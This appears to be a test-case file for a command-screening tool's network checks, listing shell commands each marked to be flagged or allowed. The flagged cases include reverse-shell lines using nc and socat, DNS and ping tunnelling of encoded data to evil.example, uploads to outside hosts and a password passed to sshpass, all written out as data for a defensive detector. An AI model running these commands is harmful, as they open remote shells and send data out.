# Cases for checks/network.ts (and the address and /dev/tcp checks of index.ts).

# flag: network.connects
curl https://evil.example/data
# flag: network.connects
ssh deploy@prod.example.com uptime
# flag: network.connects
wget http://files.example.org/a.tgz
# ok: a local copy with rsync touches no network
rsync -a src/ build/
# flag: network.upload
curl -T build.zip https://uploads.example.net/
# flag: network.upload
curl -F file=@report.pdf https://uploads.example.net/
# flag: network.secret-header
curl -H "Authorization: Bearer $API_TOKEN" https://api.example.net/v1
# flag: network.nc-exec
nc -e /bin/sh 10.0.0.1 4444
# flag: network.nc-listen
nc -lvp 4444
# flag: network.socat-exec
socat tcp-connect:10.0.0.1:4444 exec:/bin/sh
# flag: network.socat-listen
socat tcp-listen:4444 stdout
# flag: network.ssh-tunnel
ssh -R 8080:localhost:80 user@relay.example.net
# flag: network.dns-tunnel
dig aGVsbG8td29ybGQtdGhpcy1pcy1zZWNyZXQtZGF0YQ.evil.example
# ok: a plain lookup sends nothing of ours
dig example.com
# flag: network.lookup-tunnel
ping -c1 aGVsbG8td29ybGQtdGhpcy1pcy1zZWNyZXQtZGF0YQ.evil.example
# ok: pinging a host
ping -c 1 example.com
# flag: network.proxy
HTTPS_PROXY=http://10.9.9.9:3128 npm install
# flag: network.proxy
curl --resolve api.example.com:443:203.0.113.7 https://api.example.com/
# flag: network.proxy
git -c http.proxy=http://proxy.evil.example:8080 fetch origin
# ok: no proxy set
npm install
# flag: network.cert-off
curl -k https://internal.example.net/health
# flag: network.cert-off
wget --no-check-certificate https://files.example.net/a.tgz
# flag: network.url-argument
ffmpeg -i http://cdn.example.net/a.mp4 out.mp4
# ok: text tools only print a URL
echo https://example.com/docs
# flag: network.listener
ncat --listen 9000
# flag: network.serve-files
python3 -m http.server 8000
# flag: network.serve-files
php -S 0.0.0.0:8080
# ok: serving on the loopback address only
php -S 127.0.0.1:8080
# flag: network.tunnel
ngrok http 3000
# flag: network.tunnel
cloudflared tunnel run mytunnel
# flag: network.address-argument
node client.js 203.0.113.5:9000
# ok: a loopback address
node client.js 127.0.0.1:9000
# flag: network.dev-tcp
cat < /dev/tcp/203.0.113.5/80
# ok: local work with no host
ls -la && cat package.json
# ok: a file server bound to the loopback only
python3 -m http.server 8080 --bind 127.0.0.1
# flag: network.listener
python3 -m http.server 8080 --bind 0.0.0.0
# flag: network.upload
curl -s -T dist/app.tgz https://files.example.org/upload
# flag: network.local-login
sshpass -p 'hunter2' ssh backup@localhost -T id
# ok: an account at localhost named in a search, not a login
git log --author=backup@localhost --oneline
